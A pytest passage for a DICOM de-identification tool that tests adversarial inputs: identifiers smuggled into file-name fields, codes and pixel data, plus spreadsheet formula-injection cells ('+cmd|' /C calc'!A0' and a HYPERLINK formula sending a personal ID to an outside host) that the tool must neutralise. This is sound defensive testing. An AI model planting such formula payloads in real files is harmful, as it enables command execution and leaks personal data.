"""
test_attacker.py - what an attacker (or a sloppy writer) found getting
through (issue 11), each as a corpus the test generates byte by byte with
hostile.py and a property that failed before the fix:

- names from values: a date as SeriesNumber or InstanceNumber, a second
  Modality value, text as ImageLaterality or ViewPosition never become a
  folder or file name (published or quarantined, any --layout);
- public attributes the dictionary does not define are removed, whatever
  their VR;
- a UID under the DICOM root that is not in the standard's registry is
  replaced; a file whose SOP class is not registered is quarantined;
- kept codes hold no word of any person name of the file (an operator's,
  a physician's, another patient's) and, where the standard gives the
  attribute's terms, only those terms;
- two exports into one destination: the second waits, every file under its
  final name is whole, both succeed;
- an unreadable source directory is an error (exit 3), never a silent gap;
- the cleaned CSV: no personal ID, formula or NUL in a kept cell; a typed
  kept column (int, number, code, enum) empties what does not fit it; a bad
  --csv-spec is a usage error before anything is created.
"""

import errno
import hashlib
import io
import json
import os
import random
import shutil
import sqlite3
import struct
import subprocess
import sys
import tempfile
import threading
import time
import zlib

import pytest

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import hostile as H  # noqa: E402
from conftest import read_reasons, run  # noqa: E402

pydicom = pytest.importorskip("pydicom")

CSV_HDR = "fnr;invitation;screening_date;a;b;c;d;e;f;diagnosis_date\n"
DATE = "20200115"               # the study date: may not become a name
PID_DIGITS = "12345678901"      # an 11-digit personal ID


def write(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)


def mg(n, extra=(), replace=(), sop_class=H.MG_PRESENTATION):
    """A small MG file (explicit VR LE) with marker n; extra elements
    added, replace: {tag: (vr, value)} overriding base ones."""
    mark = H.marker(n)
    els = [e for e in H.base_dataset(mark, n)
           if e[0] not in dict(replace) and e[0] != 0x00080016]
    els += [(t, vr, v) for t, (vr, v) in dict(replace).items()]
    els.append((0x00080016, "UI", H.s(sop_class, "UI")))
    els += list(extra)
    px = [e for e in els if e[0] == H.PIXEL]
    els = sorted([e for e in els if e[0] != H.PIXEL], key=lambda e: e[0])
    return (H.meta(H.TS_EXPLICIT, sop_class, H.uid(n, 3)) +
            H.encode_ds(els + px))


def export(deidfs, src, dest, db, *extra):
    return run(deidfs, "export", "--db", db, "--modalities", "all",
               "--with-quarantine", *extra, src, dest, timeout=120)


def all_names(root):
    out = []
    for dp, dns, fns in os.walk(str(root)):
        out += dns + fns
    return out


def all_bytes(root):
    """Every output byte: file contents, names and reasons.csv."""
    chunks = []
    for dp, dns, fns in os.walk(str(root)):
        chunks += [n.encode() for n in dns + fns]
        for f in fns:
            with open(os.path.join(dp, f), "rb") as fh:
                chunks.append(fh.read())
    return b"\n".join(chunks)


# ------------------------------------------------- names from values

def test_names_only_from_validated_values(deidfs, tmp_path):
    """A date as SeriesNumber, a personal ID as InstanceNumber, a marker as
    a second Modality value, as ImageLaterality and as ViewPosition: with
    a layout that uses them all, no name holds any of them (published
    files and quarantined ones alike)."""
    src = tmp_path / "src"
    m = H.marker
    files = {
        "a.dcm": mg(1, replace={0x00200011: ("IS", H.s(DATE, "IS")),
                                0x00200013: ("IS", H.s("19600101", "IS"))}),
        "b.dcm": mg(2, replace={0x00080060: ("CS", H.s("MG\\" + m(2, "M"),
                                                       "CS"))}),
        "c.dcm": mg(3, extra=[(0x00185101, "CS", H.s(m(3, "V"), "CS")),
                              (0x00200062, "CS", H.s(m(3, "L"), "CS"))]),
        "d.dcm": mg(4, extra=[(0x00185101, "CS", H.s("MLO", "CS")),
                              (0x00200062, "CS", H.s("R", "CS"))]),
    }
    for name, data in files.items():
        write(str(src / name), data)
    dest = tmp_path / "out"
    r = export(deidfs, src, dest, tmp_path / "p.db", "--layout",
               "{patient}/{study_month}/{series_number}_{modality}/"
               "{laterality}_{view}_{instance_number}.dcm")
    assert r.returncode == 0, r.stderr
    names = all_names(dest)
    joined = "\n".join(names)
    assert len([n for n in names if n.endswith(".dcm")]) == 4
    for bad in (DATE, "19600101", H.MARKER_PREFIX, "ZQX"):
        assert bad not in joined, (bad, names)
    # what is valid still names the files
    assert any(n == "R_MLO_1.dcm" for n in names), names
    assert any(n.startswith("1_MG") for n in names), names
    assert any(n == "x_MG" for n in names), names      # the date: absent
    reasons = (dest / ".quarantine" / "reasons.csv").read_text()
    assert H.MARKER_PREFIX not in reasons and DATE not in reasons


# ------------------------------------------ tags nobody defined, UIDs

UNASSIGNED = [(0x00109999, "OB"), (0x00089998, "CS"), (0x00209998, "US"),
              (0x00289998, "FD"), (0x0018FFF0, "OW"), (0x00209999, "AT"),
              (0x0028009A, "OF")]


def test_unassigned_public_tags_and_unregistered_uids(deidfs, tmp_path):
    """Public tags the dictionary does not define, each holding a marker,
    at the top and inside a kept sequence, are removed; a UID under the
    DICOM root that is not registered (ReferencedSOPClassUID holding a
    personal ID) is replaced; a file whose SOP class is not registered
    is quarantined as sop-class-unknown, and its class UID is nowhere."""
    src = tmp_path / "src"
    mark = H.marker(10, "T")
    blob = mark.encode()
    top = [(t, vr, blob) for t, vr in UNASSIGNED]
    ref = (0x00081140, "SQ", [[
        (0x00081150, "UI", H.s("1.2.840.10008.99." + PID_DIGITS, "UI")),
        (0x00081155, "UI", H.s(H.uid(10, 9), "UI")),
        (0x00109999, "OB", blob),
    ]])
    write(str(src / "tags.dcm"), mg(10, extra=top + [ref]))
    bad_class = "1.2.840.10008.5.1.4.1.1.1.2." + PID_DIGITS[::-1]
    write(str(src / "class.dcm"), mg(11, sop_class=bad_class))
    dest = tmp_path / "out"
    r = export(deidfs, src, dest, tmp_path / "p.db")
    assert r.returncode == 0, r.stderr
    out = all_bytes(dest)
    assert blob not in out
    assert PID_DIGITS.encode() not in out
    assert PID_DIGITS[::-1].encode() not in out
    pub = [os.path.join(dp, f) for dp, _, fns in os.walk(str(dest))
           for f in fns if f.endswith(".dcm") and ".quarantine" not in dp]
    assert len(pub) == 1
    ds = pydicom.dcmread(pub[0])
    for t, _ in UNASSIGNED:
        assert t not in ds, hex(t)
    reasons = [r["reason"]
               for r in read_reasons(dest / ".quarantine" / "reasons.csv")]
    assert reasons.count("sop-class-unknown") == 1, reasons


# ------------------------------------------------ one destination, two runs

def test_two_exports_into_one_destination(deidfs, archive, tmp_path):
    """Two exports with one db into one destination at once: both succeed
    (the second waits for the first), no file under its final name is ever
    short or wrong, and the tree is a fresh export's."""
    db = tmp_path / "p.db"
    dest = tmp_path / "dest"
    ref = tmp_path / "ref"
    r = run(deidfs, "export", "-q", "--db", db, "--csv", archive.csv,
            archive.identified, ref)
    assert r.returncode == 0, r.stderr
    want = {}
    for dp, _, fns in os.walk(str(ref)):
        for f in fns:
            p = os.path.join(dp, f)
            with open(p, "rb") as fh:
                want[os.path.relpath(p, str(ref))] = fh.read()
    bad = []
    stop = threading.Event()

    def watch():
        while not stop.is_set():
            for rel, data in want.items():
                p = os.path.join(str(dest), rel)
                try:
                    with open(p, "rb") as fh:
                        got = fh.read()
                except FileNotFoundError:
                    continue
                if got != data:
                    bad.append(rel)
    th = threading.Thread(target=watch)
    th.start()
    try:
        for _ in range(3):
            shutil.rmtree(str(dest), ignore_errors=True)
            cmd = [str(deidfs), "export", "-q", "--db", str(db), "--csv",
                   str(archive.csv), str(archive.identified), str(dest)]
            ps = [subprocess.Popen(cmd, stdout=subprocess.PIPE,
                                   stderr=subprocess.PIPE) for _ in range(2)]
            outs = [p.communicate(timeout=120) for p in ps]
            for p, (_, err) in zip(ps, outs):
                assert p.returncode == 0, err.decode(errors="replace")
    finally:
        stop.set()
        th.join()
    assert not bad, bad[:5]
    for rel, data in want.items():
        with open(os.path.join(str(dest), rel), "rb") as fh:
            assert fh.read() == data, rel


# ------------------------------------------- an unreadable source folder

@pytest.mark.skipif(os.geteuid() != 0 or shutil.which("setpriv") is None,
                    reason="needs root and setpriv")
def test_unreadable_source_directory_is_an_error(deidfs, archive):
    """A folder of the source that cannot be read is an error, counted
    and reported without its name, and the run exits 3: never a dataset
    silently missing a woman's images.  What was exported from it stays
    (its records are kept, not pruned), while a file deleted elsewhere is
    still removed; a root-only lost+found at the top is no error.  Run as
    nobody (root reads any folder whatever its mode)."""
    work = tempfile.mkdtemp(prefix="deidfs-unreadable-")
    try:
        os.chmod(work, 0o755)
        src = os.path.join(work, "src")
        shutil.copytree(str(archive.identified), src)
        shutil.copy(str(archive.csv), os.path.join(work, "v.csv"))
        for dp, dns, fns in os.walk(src):
            for n in dns:
                os.chmod(os.path.join(dp, n), 0o755)
            for n in fns:
                os.chmod(os.path.join(dp, n), 0o644)
        os.chmod(os.path.join(work, "v.csv"), 0o644)
        os.mkdir(os.path.join(src, "lost+found"), 0o700)
        os.mkdir(os.path.join(work, "w"))
        os.chmod(os.path.join(work, "w"), 0o777)
        db = os.path.join(work, "w", "p.db")
        out = os.path.join(work, "w", "out")

        def export_as_nobody():
            return run("setpriv", "--reuid=65534", "--regid=65534",
                       "--clear-groups", deidfs, "export", "--db", db,
                       "--csv", os.path.join(work, "v.csv"), src, out,
                       cwd="/")
        r = export_as_nobody()
        assert r.returncode == 0, r.stderr
        before = set(os.path.relpath(os.path.join(dp, f), out)
                     for dp, _, fns in os.walk(out) for f in fns)
        c = sqlite3.connect(db)
        rows = [(p if isinstance(p, bytes) else p.encode(), vp)
                for p, vp in c.execute(
                    "SELECT path, view_path FROM files WHERE view_path "
                    "LIKE '%.dcm' AND view_path NOT LIKE '.quarantine%'")]
        c.close()
        sub = sorted(rows)[0][0].split(b"/")[0]     # a woman's folder
        under = [vp for p, vp in rows if p.startswith(sub + b"/")]
        gone_src, gone_vp = next((p, vp) for p, vp in rows
                                 if not p.startswith(sub + b"/"))
        assert under
        os.unlink(os.path.join(os.fsencode(src), gone_src))
        os.chmod(os.path.join(os.fsencode(src), sub), 0)
        r = export_as_nobody()
        assert r.returncode == 3, r.stderr
        assert "could not be read" in r.stderr, r.stderr
        assert os.fsdecode(sub) not in r.stderr
        after = set(os.path.relpath(os.path.join(dp, f), out)
                    for dp, _, fns in os.walk(out) for f in fns)
        assert gone_vp in before and gone_vp not in after
        for vp in under:
            assert vp in after, vp
    finally:
        for dp, dns, _ in os.walk(os.fsencode(work)):
            for n in dns:
                os.chmod(os.path.join(dp, n), 0o755)
        shutil.rmtree(work, ignore_errors=True)


# ---------------------------------- the db behind another name of a folder

@pytest.mark.skipif(os.geteuid() != 0, reason="needs root (bind mounts)")
def test_db_or_view_inside_the_source_by_another_name(deidfs, archive_copy,
                                                      tmp_path):
    """The source bind-mounted at a second place: a db, a destination or a
    CSV-less export placed there is inside the source all the same (the
    key and the identities would land in the tree), and refused."""
    arch = archive_copy
    alias = tmp_path / "alias"
    alias.mkdir()
    r = subprocess.run(["mount", "--bind", str(arch.identified),
                        str(alias)], stderr=subprocess.PIPE)
    if r.returncode:
        pytest.skip("no bind mount here: %s" % r.stderr.decode())
    try:
        for db, dest in ((alias / "p.db", tmp_path / "out"),
                         (tmp_path / "p.db", alias / "out")):
            r = run(deidfs, "export", "--db", db, "--csv", arch.csv,
                    arch.identified, dest)
            assert r.returncode == 2, r.stderr
            assert "must not be inside" in r.stderr, r.stderr
            assert not os.path.exists(str(db))
            assert not os.path.exists(str(dest))
    finally:
        subprocess.run(["umount", str(alias)])


def _bind(what, where):
    r = subprocess.run(["mount", "--bind", str(what), str(where)],
                       stderr=subprocess.PIPE)
    if r.returncode:
        pytest.skip("no bind mount here: %s" % r.stderr.decode())


def _everything(root):
    return sorted(os.path.relpath(os.path.join(dp, n), str(root))
                  for dp, dns, fns in os.walk(str(root)) for n in dns + fns)


@pytest.mark.skipif(os.geteuid() != 0, reason="needs root (bind mounts)")
def test_db_or_view_under_a_bind_mount_of_a_source_subfolder(
        deidfs, archive_copy, tmp_path):
    """A subfolder of the source bind-mounted elsewhere: a db, a destination
    or a mount point placed under that other name is inside the source all
    the same, though no name and no folder above it says so.  The walk of
    the source meets the folder: refused (exit 2, as for another name of
    the source itself) before anything is written there, whether the db is
    new (checked before it is created), already exists (checked before the
    refresh writes to it), or the mount has no refresh.  And the other way
    round: a source that holds (by a bind mount) the folder of the db or
    the destination is refused the same."""
    arch = archive_copy
    ident = str(arch.identified)
    sub = next(os.path.join(dp, d) for dp, dns, _ in os.walk(ident)
               for d in sorted(dns))
    alias = tmp_path / "alias"
    alias.mkdir()
    outside = tmp_path / "outside"
    outside.mkdir()
    link = os.path.join(ident, "zz-link")
    good_db = tmp_path / "good.db"
    r = run(deidfs, "export", "-q", "--db", good_db, "--csv", arch.csv,
            ident, tmp_path / "ok")
    assert r.returncode == 0, r.stderr
    before = _everything(ident)
    _bind(sub, alias)
    mounted = []
    try:
        def refused(*args):
            r = run(deidfs, *args, timeout=120)
            if r.returncode == 0 and args[0] == "mount":
                mounted.append(args[-1])
            assert r.returncode == 2, (args, r.stderr)
            assert "must not be inside" in r.stderr, r.stderr
            assert _everything(ident) == before, args

        # a new db under the other name
        refused("export", "--db", alias / "p.db", "--csv", arch.csv, ident,
                tmp_path / "out")
        assert not os.path.exists(str(tmp_path / "out"))
        # a destination under it, with a new db and with an existing one
        refused("export", "--db", tmp_path / "new.db", "--csv", arch.csv,
                ident, alias / "out")
        assert not os.path.exists(str(tmp_path / "new.db"))
        refused("export", "--db", good_db, "--csv", arch.csv, ident,
                alias / "out")
        # a db an earlier version left there, found by the refresh's walk
        shutil.copyfile(str(good_db), os.path.join(sub, "old.db"))
        before = _everything(ident)
        refused("export", "--db", alias / "old.db", "--csv", arch.csv,
                ident, tmp_path / "out")
        os.unlink(os.path.join(sub, "old.db"))
        # a mount point under it: with a refresh, and without
        os.mkdir(os.path.join(sub, "mnt"))
        before = _everything(ident)
        if os.path.exists("/dev/fuse"):
            for extra in ([], ["--no-refresh"]):
                refused("mount", "--db", good_db, "--csv", arch.csv,
                        *extra, ident, alias / "mnt")
        os.rmdir(os.path.join(sub, "mnt"))
        # the source holding the db's folder or the destination's parent
        subprocess.run(["umount", str(alias)])
        os.mkdir(link)
        before = _everything(ident)
        _bind(outside, link)
        before = _everything(ident)
        refused("export", "--db", good_db, "--csv", arch.csv, ident,
                outside / "out")
        refused("export", "--db", outside / "x.db", "--csv", arch.csv,
                ident, tmp_path / "out")
        assert os.listdir(str(outside)) == []
    finally:
        for mp in mounted:
            subprocess.run(["fusermount3", "-u", str(mp)])
        subprocess.run(["umount", str(alias)], stderr=subprocess.DEVNULL)
        subprocess.run(["umount", link], stderr=subprocess.DEVNULL)
        if os.path.isdir(link):
            os.rmdir(link)


# ------------------------------------------------------ the cleaned CSV

def test_csv_kept_cells_carry_no_id_formula_or_nul(deidfs, archive_copy,
                                                   tmp_path):
    """Kept (clinical) columns of the registry: another woman's personal
    ID, the row's own, a formula a spreadsheet would run, a NUL byte.  The
    cleaned CSV holds no personal ID in any column, shows formulas as
    text (a leading apostrophe) and has no NUL; the rows are reported
    without their values."""
    arch = archive_copy
    raw = arch.csv.read_bytes()
    lines = raw.split(b"\n")
    fnrs = [w["fnr"] for w in arch.truth["women"]]
    row = lines[1].split(b";")
    own = row[0].decode()
    other = next(f for f in fnrs if f != own)
    row[3] = b"se " + other.encode()               # another woman
    row[4] = b"=HYPERLINK(\"http://x/?" + own.encode() + b"\")"
    row[5] = b"+cmd|' /C calc'!A0"
    row[7] = b"nul\0byte"
    row[8] = b"@SUM(1)"
    lines[1] = b";".join(row)
    arch.csv.write_bytes(b"\n".join(lines))
    dest = tmp_path / "out"
    r = run(deidfs, "export", "--db", tmp_path / "p.db", "--csv", arch.csv,
            arch.identified, dest)
    assert r.returncode == 0, r.stderr
    out = (dest / "cleaned_variables.csv").read_bytes()
    for f in fnrs:
        assert f.encode() not in out, f
    assert b"\0" not in out
    cells = [c.strip(b'"') for line in out.split(b"\n")
             for c in line.split(b";")]
    for c in cells:
        assert c[:1] not in (b"=", b"+", b"@"), c
    assert b"'+cmd|' /C calc'!A0" in cells
    assert b"'@SUM(1)" in cells
    assert "a personal ID in a kept column: emptied" in r.stderr
    assert other not in r.stderr and own not in r.stderr


def _marker(rng, n=10):
    """A random token the output must not contain (never a real value)."""
    return "Qz" + "".join(rng.choice("bcdfghjklmnpqrstvwxz") for _ in range(n))


# the demo registry's columns, each with the role that fits its values
TYPED_SPEC = ("1=pseudonym,2=drop,3=month,4=enum:a|b|c|d,5=int,"
              "6=enum:ja|nei,7=text,8=code,9=keep,10=days-since:3,11=number")


def test_csv_typed_roles_empty_what_does_not_fit(deidfs, archive_copy,
                                                  tmp_path):
    """Issue 11: each typed kept role (int, number, code, enum) writes a
    value that fits it and empties one that does not, whatever it holds
    (a note, a formula, another woman's personal ID, spread over a
    number's digits or split by a dash); the row and column are reported
    on stderr and counted in the run report, never the value: no planted
    value is in any output byte, stdout, stderr or the report."""
    arch = archive_copy
    rng = random.Random(1101)
    lines = arch.csv.read_bytes().decode("utf-8").split("\n")
    header = lines[0].split(";")
    assert len(header) == 11
    rows = {r["line"]: r for r in arch.truth["csv"]["rows"]}
    written = [ln for ln in sorted(rows)
               if rows[ln]["kind"] not in ("unlinked-row",
                                           "bad-screening-date")]
    linked = [ln for ln in written if rows[ln]["kind"] == "linked"]
    assert len(linked) >= 4
    fnrs = [w["fnr"] for w in arch.truth["women"]]

    def other_fnr(line):
        return next(f for f in fnrs if f != rows[line]["fnr"])

    m = [_marker(rng) for _ in range(9)]
    o1, o2, o3 = other_fnr(linked[1]), other_fnr(linked[2]), \
        other_fnr(linked[3])
    # (line, column (1-based), cell, expected output or None: emptied,
    #  the report's reason)
    plant = [
        (linked[0], 4, "b " + m[0], None, "not one of the enum values"),
        (linked[0], 5, "3" + m[1], None, "not an int"),
        (linked[0], 6, m[2], None, "not one of the enum values"),
        (linked[0], 8, "-" + m[3], None, "not a code"),
        (linked[0], 11, "4,5 mm " + m[4], None, "not a number"),
        (linked[1], 5, "1234567890123456789", None, "not an int"),
        (linked[1], 8, "kode " + m[5], None, "not a code"),
        (linked[1], 11, "=1+2+" + m[6], None, "not a number"),
        (linked[1], 4, o1, None, "a personal ID in a kept column"),
        (linked[2], 8, (m[7] + "xxxxxxxx")[:17], None, "not a code"),
        (linked[2], 11, o2[:10] + "." + o2[10], None,
         "a personal ID in a kept column"),
        (linked[2], 5, o2, None, "a personal ID in a kept column"),
        (linked[3], 8, o3[:6] + "-" + o3[6:], None,
         "a personal ID in a kept column"),
        (linked[3], 6, "ja|nei", None, "not one of the enum values"),
        (linked[3], 4, "=HYPERLINK(\"http://x/?" + m[8] + "\")", None,
         "not one of the enum values"),
        # values that fit: written as they are, without outer spaces
        (linked[2], 4, "c", "c", None),
        (linked[2], 6, " nei ", "nei", None),
        (linked[3], 5, " -3 ", "-3", None),
        (linked[3], 11, "1.5e-3", "1.5e-3", None),
        (linked[0], 9, "BI-RADS_4", "BI-RADS_4", None),
        (linked[1], 6, "ja", "ja", None),
    ]
    for line, col, cell, _, _ in plant:
        cells = lines[line - 1].split(";")
        cells[col - 1] = cell
        lines[line - 1] = ";".join(cells)
    arch.csv.write_bytes("\n".join(lines).encode("utf-8"))
    dest, report = tmp_path / "out", tmp_path / "report.json"
    r = run(deidfs, "export", "--db", tmp_path / "p.db", "--csv", arch.csv,
            "--csv-spec", TYPED_SPEC, "--report", report, arch.identified,
            dest)
    assert r.returncode == 0, r.stderr
    out = (dest / "cleaned_variables.csv").read_bytes().decode("utf-8")
    out_rows = [ln.split(";") for ln in out.split("\n")[1:] if ln]
    assert len(out_rows) == len(written)
    out_of = dict(zip(written, out_rows))
    # the report's "command" is the command line as given (issue 16): it
    # holds the spec, whose enum:ja|nei is the text of one planted cell
    rep = json.loads(report.read_text())
    assert rep.pop("command")[0] == "export"
    everything = all_bytes(dest) + (r.stdout + r.stderr).encode() + \
        json.dumps(rep).encode()
    for line, col, cell, want, why in plant:
        got = out_of[line][col - 2]     # column 2 is dropped
        if want is not None:
            assert got == want, (line, col)
            continue
        assert got == "", (line, col)
        assert ("registry row %d: column %d: %s: emptied" % (line, col, why)
                in r.stderr), (line, col)
        for part in (cell, cell.strip("=-"), cell.replace(".", ""),
                     cell.replace("-", "")):
            assert part.encode() not in everything, (line, col)
    for f in fnrs:
        assert f.encode() not in everything
    for x in m:
        assert x.encode() not in everything
    # every report is counted, and nothing else is
    problems = json.loads(report.read_text())["csv_row_problems"]
    assert problems == r.stderr.count("deidfs: registry row ")
    assert problems >= len([p for p in plant if p[3] is None])


@pytest.mark.parametrize("spec,item", [
    ("1=pseudonym,4=integer", "4=integer"),
    ("1=pseudonym,4=Int", "4=Int"),
    ("1=pseudonym,4=int:5", "4=int:5"),
    ("1=pseudonym,4=code:16", "4=code:16"),
    ("1=pseudonym,4=enum", "4=enum"),
    ("1=pseudonym,4=enum:", "4=enum:"),
    ("1=pseudonym,4=enum:a||b", "4=enum:a||b"),
    ("1=pseudonym,4=enum:=cmd|a", "4=enum:=cmd|a"),
    ("1=pseudonym,4=enum: a|b", "4=enum: a|b"),
    ("1=pseudonym,10=days-since:x", "10=days-since:x"),
    ("1=pseudonym,10=days-since", "10=days-since"),
])
def test_csv_spec_errors_are_usage_errors(deidfs, archive, tmp_path, spec,
                                          item):
    """An unknown role or a malformed role argument is a usage error (exit
    2) naming the offending item, found before anything is created: no
    db (with a new key), no destination."""
    for with_csv in (True, False):
        db, dest = tmp_path / "p.db", tmp_path / "out"
        args = ["--csv", archive.csv] if with_csv else []
        r = run(deidfs, "export", "--db", db, *args, "--csv-spec", spec,
                archive.identified, dest)
        assert r.returncode == 2, (with_csv, r.stderr)
        assert "csv-spec" in r.stderr and '"%s"' % item in r.stderr, \
            r.stderr
        assert not db.exists() and not dest.exists()


# ------------------------------------------- kept values that carry text

@pytest.mark.parametrize("ts", [H.TS_EXPLICIT, H.TS_IMPLICIT])
def test_kept_values_are_valid_instances(deidfs, tmp_path, ts):
    """Values the rules keep (codes, numbers, binary) each holding a
    personal ID or a name, in explicit and implicit VR: a 24-character
    View Position, an 11-digit Instance Number, text as US values, a name
    as a second Specific Character Set value, a CS attribute labelled OB.
    None of it reaches the output; the file is still published."""
    n = 30 if ts == H.TS_EXPLICIT else 31
    # mixed case and punctuation: not a CS value (a token of 16 upper-case
    # letters and digits still is one, see the README's limits)
    mark = "Nordmann, Kari " + H.marker(n, "k")
    extra = [
        (0x00185101, "CS", H.s("ZQXHOSTILEVIEWPOSITION24", "CS")),
        (0x00280301, "CS", H.s("NO", "CS")),
        (0x00280030, "DS", H.s("0.1\\0.1", "DS")),
        (0x00187004, "OB", H.s(mark, "OB")),          # a CS, labelled OB
        (0x00281040, "CS", H.s("LIN", "CS")),
        (0x00280006, "US", mark.encode()[:20]),        # VM 1: text
        (0x00080005, "CS", H.s("ISO_IR 100\\" + mark[:16], "CS")),
        # valid values that hold her name (a word of PatientName, which
        # holds mark) or a personal ID
        (0x00080008, "CS", H.s("ORIGINAL\\PRIMARY\\NORDMANN", "CS")),
        (0x00180050, "DS", H.s("01020310045", "DS")),
    ]
    els = [e for e in H.base_dataset(mark, n)
           if e[0] not in (0x00200013,)]
    els.append((0x00200013, "IS", H.s(PID_DIGITS, "IS")))
    els += extra
    px = [e for e in els if e[0] == H.PIXEL]
    els = sorted([e for e in els if e[0] != H.PIXEL], key=lambda e: e[0])
    explicit = ts != H.TS_IMPLICIT    # implicit: the dictionary's VRs
    data = H.meta(ts, H.MG_PRESENTATION, H.uid(n, 3)) + \
        H.encode_ds(els + px, explicit)
    src = tmp_path / "src"
    write(str(src / "k.dcm"), data)
    dest = tmp_path / "out"
    r = export(deidfs, src, dest, tmp_path / "p.db")
    assert r.returncode == 0, r.stderr
    out = all_bytes(dest)
    for needle in (H.MARKER_PREFIX.encode(), b"ZQXHOS", PID_DIGITS.encode(),
                   b"VIEWPOSITION", b"Nordmann", b"NORDMANN",
                   b"01020310045"):
        assert needle not in out, needle
    pub = [os.path.join(dp, f) for dp, _, fns in os.walk(str(dest))
           for f in fns if f.endswith(".dcm") and ".quarantine" not in dp]
    assert len(pub) == 1, r.stderr
    ds = pydicom.dcmread(pub[0])
    assert ds.PixelSpacing == [0.1, 0.1]        # valid values stay
    assert ds.Modality == "MG"
    assert ds.SpecificCharacterSet == "ISO_IR 100"


# ----------------------------------- codes that carry someone else's name

# Made-up surnames (upper case, at most 16 characters: each a valid CS
# value), so that finding one anywhere in the output can only be a leak.
OPERATOR = "FJELDSTADVIK"       # Operators' Name
REFERRING = "BRAKKESTUEN"       # Referring Physician's Name
REQUESTING = "HOVLANDSDAL"      # Requesting Physician, in a sequence item
OTHER_PATIENT = "SKOGHEIMVIK"   # Other Patient Names
NOBODY = "KVERNHUSVIK"          # no one's name: only its vocabulary stops it


def test_codes_hold_no_name_of_the_file_and_only_their_terms(deidfs,
                                                             tmp_path):
    """Issue 11: a third Image Type value holding the operator's surname,
    Detector Type the referring physician's, Exposure Control Mode the
    requesting physician's (named one level down), a software version and a
    CS attribute without a vocabulary another patient's, and a Positioner
    Type that is no term and no one's name.  None of them is the patient's
    name.  No planted word is in any output byte, name, the report or
    stderr; the file is still published; the terms stay, Pixel Intensity
    Relationship LIN even though an operator is called Lin."""
    n = 50
    mark = H.marker(n)
    extra = [
        (0x00080008, "CS", H.s("ORIGINAL\\PRIMARY\\" + OPERATOR, "CS")),
        (0x00081070, "PN", H.s(OPERATOR.title() + "^Ola\\Lin^Mei", "PN")),
        (0x00080090, "PN", H.s(REFERRING.title() + "^Liv", "PN")),
        (0x00101001, "PN", H.s(OTHER_PATIENT.title() + "^Aase", "PN")),
        (0x00180022, "CS", H.s(OTHER_PATIENT, "CS")),   # Scan Options
        (0x00181020, "LO", H.s("V2 " + OTHER_PATIENT.title())),
        (0x00181508, "CS", H.s(NOBODY, "CS")),          # Positioner Type
        (0x00187004, "CS", H.s(REFERRING, "CS")),       # Detector Type
        (0x00187060, "CS", H.s(REQUESTING, "CS")),      # Exposure Ctl Mode
        (0x00185101, "CS", H.s("MLO", "CS")),
        (0x00200062, "CS", H.s("L", "CS")),
        (0x00181166, "CS", H.s("RECIPROCATING\\FOCUSED", "CS")),
        (0x00281040, "CS", H.s("LIN", "CS")),
        (0x00080070, "LO", H.s("ACME Medical")),
    ]
    els = [e for e in H.base_dataset(mark, n) if e[0] not in
           (0x00080090, 0x00400275)]
    els.append((0x00400275, "SQ", [[
        (0x00321032, "PN", H.s(REQUESTING.title() + "^Per", "PN")),
        (0x00401001, "SH", H.s(mark, "SH")),
    ]]))
    els += extra
    px = [e for e in els if e[0] == H.PIXEL]
    els = sorted([e for e in els if e[0] != H.PIXEL], key=lambda e: e[0])
    src = tmp_path / "src"
    write(str(src / "names.dcm"),
          H.meta(H.TS_EXPLICIT, H.MG_PRESENTATION, H.uid(n, 3)) +
          H.encode_ds(els + px))
    dest = tmp_path / "out"
    report = tmp_path / "report.json"
    r = export(deidfs, src, dest, tmp_path / "p.db", "--report", report)
    assert r.returncode == 0, r.stderr
    out = all_bytes(dest) + report.read_bytes() + r.stderr.encode()
    for word in (OPERATOR, REFERRING, REQUESTING, OTHER_PATIENT, NOBODY):
        for spelt in (word, word.title(), word.lower()):
            assert spelt.encode() not in out, spelt
    assert H.MARKER_PREFIX.encode() not in out
    pub = [os.path.join(dp, f) for dp, _, fns in os.walk(str(dest))
           for f in fns if f.endswith(".dcm") and ".quarantine" not in dp]
    assert len(pub) == 1, r.stderr
    ds = pydicom.dcmread(pub[0])
    assert list(ds.ImageType) == ["ORIGINAL", "PRIMARY", ""]
    assert ds.ViewPosition == "MLO" and ds.ImageLaterality == "L"
    assert list(ds.Grid) == ["RECIPROCATING", "FOCUSED"]
    assert ds.PixelIntensityRelationship == "LIN"
    assert ds.Manufacturer == "ACME Medical"
    for kw in ("ScanOptions", "SoftwareVersions", "ExposureControlMode"):
        assert kw not in ds, kw
    # what the MG IOD requires stays present: Detector Type (Type 2)
    # empty, Positioner Type (Type 1) a dummy
    assert ds.DetectorType == ""
    assert ds.PositionerType == "ANON"


# --------------------------------------------- bytes that are not image

@pytest.mark.parametrize("ts", [H.TS_EXPLICIT, H.TS_BIG])
def test_native_pixel_data_beyond_the_image_is_not_published(deidfs,
                                                             tmp_path, ts):
    """Native pixel data whose value runs past Rows x Columns x Samples x
    Bits Allocated: the excess (here a name and a spliced header) is not
    published; the image is, byte for byte; the file re-parses."""
    n = 40 if ts == H.TS_EXPLICIT else 41
    mark = H.marker(n, "PX")
    excess = (mark.encode() + b" Nordmann^Kari " +
              H.meta(ts, H.MG_PRESENTATION, H.uid(n, 3))[128:])
    excess += b"\0" * (len(excess) % 2)
    image = H.PIXELS     # 8 x 8 x 16 bits
    be = ts == H.TS_BIG
    els = [(t, vr, v[::-1] if be and vr == "US" else v)
           for t, vr, v in H.base_dataset(mark, n) if t != H.PIXEL]
    data = H.meta(ts, H.MG_PRESENTATION, H.uid(n, 3))
    body = b"".join(H.elem(t, vr, v, True, be=be) if vr != "SQ" else
                    H.encode_seq(t, v) for t, vr, v in els
                    if not (be and vr == "SQ"))
    body += H.elem(H.PIXEL, "OW", image + excess, True, be=be)
    src = tmp_path / "src"
    write(str(src / "px.dcm"), data + body)
    dest = tmp_path / "out"
    r = export(deidfs, src, dest, tmp_path / "p.db")
    assert r.returncode == 0, r.stderr
    out = all_bytes(dest)
    assert mark.encode() not in out and b"Nordmann" not in out
    pub = [os.path.join(dp, f) for dp, _, fns in os.walk(str(dest))
           for f in fns if f.endswith(".dcm") and ".quarantine" not in dp]
    assert len(pub) == 1, r.stderr
    ds = pydicom.dcmread(pub[0])
    assert len(ds.PixelData) == len(image)
    with open(pub[0], "rb") as f:
        assert f.read().endswith(image)


# --------------------------------------- encapsulated pixel data

ENCAP_TOOLS = {   # codec: the command that makes it from a native file
    "jpeg-lossless": ["dcmcjpeg"],          # 1.2.840.10008.1.2.4.70
    "jpeg-ls": ["dcmcjpls"],                # 1.2.840.10008.1.2.4.80
